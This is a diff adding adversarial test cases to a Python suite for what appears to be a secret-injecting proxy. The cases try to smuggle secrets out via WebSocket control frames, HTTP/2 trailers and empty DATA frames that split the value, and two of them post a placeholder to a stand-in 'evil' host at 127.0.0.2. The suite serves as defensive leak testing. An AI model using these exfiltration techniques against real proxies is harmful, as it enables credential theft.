@@ -27,8 +27,8 @@ import brotli
 import pytest
 
 from conftest import curl
-from upstream import RawUpstream, header, raw_response
-from wire import connect, credential_header, read_all, tunnel
+from upstream import H2Upstream, RawUpstream, header, raw_response
+from wire import connect, credential_header, h2_request, read_all, tunnel
 
 try:
     from compression import zstd
@@ -601,6 +601,115 @@ def echo_after_other_upgrade_as_raw_tcp(s):
     up = s.raw_upstream(answer)
     s.allow(up)
     return s.via(up, get(up, headers=f"Upgrade: foo\r\nX-Key: {s.ph}\r\n")), None
+
+
+def _ws_control_echo(s: Scene, frames) -> bytes:
+    import hashlib
+
+    def answer(head, body, sock):
+        accept = base64.b64encode(hashlib.sha1(header(head, b"sec-websocket-key")
+                                               + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
+        sock.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+                     b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
+        for f in frames(header(head, b"x-key")):
+            sock.sendall(f)
+            time.sleep(0.2)
+        time.sleep(1)
+    up = s.raw_upstream(answer)
+    s.allow(up)
+    return s.via(up, f"GET /ws HTTP/1.1\r\nHost: {up.target}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+                     f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nX-Key: {s.ph}\r\n\r\n")
+
+
+def _frame(opcode: int, payload: bytes) -> bytes:
+    return bytes([0x80 | opcode, len(payload)]) + payload
+
+
+@attack
+def echo_in_websocket_close_reason(s):
+    return _ws_control_echo(s, lambda v: [_frame(0x8, b"\x03\xe8r:" + v)]), None
+
+
+@attack
+def echo_in_websocket_ping_and_pong(s):
+    return _ws_control_echo(s, lambda v: [_frame(0x9, b"p:" + v), _frame(0xA, b"q:" + v)]), None
+
+
+@attack
+def echo_split_by_empty_http2_data_frame(s):
+    def answer(h, body, conn, sid, sock):
+        msg = b"data: echo " + h[b"x-key"] + b"\n\n"
+        conn.send_headers(sid, [(b":status", b"200"), (b"content-type", b"text/event-stream")])
+        for part in (msg[:20], b"", msg[20:]):  # an empty DATA frame cuts the value
+            conn.send_data(sid, part, end_stream=part is msg[20:] and part != b"")
+            sock.sendall(conn.data_to_send())
+            time.sleep(0.2)
+    up = H2Upstream(s.pki, answer)
+    s.extra.append(up)
+    s.allow(up)
+    r = curl(s.session, up.origin + "/sse", "--http2", "-H", f"X-Key: {s.ph}")
+    return r.seen(), b"data: echo " + s.ph.encode()
+
+
+@attack
+def echo_in_http2_response_trailers(s):
+    def answer(h, body, conn, sid, sock):
+        conn.send_headers(sid, [(b":status", b"200"), (b"content-type", b"text/plain")])
+        conn.send_data(sid, b"ok")
+        conn.send_headers(sid, [(b"x-trailer", b"k=" + h[b"x-key"])], end_stream=True)
+    up = H2Upstream(s.pki, answer)
+    s.extra.append(up)
+    s.allow(up)
+    return h2_request(s.session, s.proxy.port, up.target, [(b"x-key", s.ph.encode())]), b"k=" + s.ph.encode()
+
+
+def _h2_ok(h, body, conn, sid, sock):
+    conn.send_headers(sid, [(b":status", b"200"), (b"content-length", b"2")])
+    conn.send_data(sid, b"ok", end_stream=True)
+
+
+@attack
+def placeholder_in_http2_request_trailers_to_other_host(s):
+    evil = H2Upstream(s.pki, _h2_ok, host="127.0.0.2")
+    s.extra.append(evil)
+    out = h2_request(s.session, s.proxy.port, evil.target, [(b"te", b"trailers")], body_parts=(b"hello",),
+                     trailers=[(b"x-key", s.ph.encode())], method=b"POST")
+    assert not any(s.ph.encode() in repr(t).encode() for _, _, t in evil.received)
+    return out, None
+
+
+@attack
+def placeholder_split_by_empty_http2_data_frame_to_other_host(s):
+    evil = H2Upstream(s.pki, _h2_ok, host="127.0.0.2")
+    s.extra.append(evil)
+    body = os.urandom(2 << 20).replace(b"sg.", b"xx.") + b"key=" + s.ph.encode()
+    cut = len(body) - 30
+    out = h2_request(s.session, s.proxy.port, evil.target, [(b"content-length", str(len(body)).encode())],
+                     body_parts=(body[:cut], b"", body[cut:]), method=b"POST")
+    assert all(s.ph.encode() not in b for _, b, _ in evil.received)
+    return out, None
+
+
+@attack
+def secret_added_after_the_reading_session_started(s):
+    stored: list[bytes] = []
+
+    def answer(head, body, sock):
+        if head.startswith(b"PUT"):
+            stored.append(body)
+        return raw_response(b"note: " + b"".join(stored))
+    up = s.raw_upstream(answer)
+    s.proxy.cli("secret", "rm", "--user", s.session["principal"], "--name", "K")
+    s.proxy.add_secret(s.session["principal"], "OLD", s.value + "-old", up.origin)
+    reader = s.session
+    s.via(up, get(up, "/warmup"))  # the reader's scrubber is made now, before K exists
+    s.proxy.add_secret(s.session["principal"], "K", s.value, up.origin)
+    s.allowed = up
+    s.session = s.proxy.issue(user=s.session["principal"])  # another run stores K at the allowed origin
+    s.via(up, post(up, s.session["env"]["K"].encode(), path="/note").replace(b"POST", b"PUT", 1))
+    assert stored == [s.value.encode()]
+    s.session = reader
+    return s.via(up, get(up, "/note")), b"note: " + reader["env"]["RUNCHAT_ID"].replace("RUNCHAT_ID", "K")[:3].encode()
 
 
 # --- the one test ----------------------------------------------------------------------------------
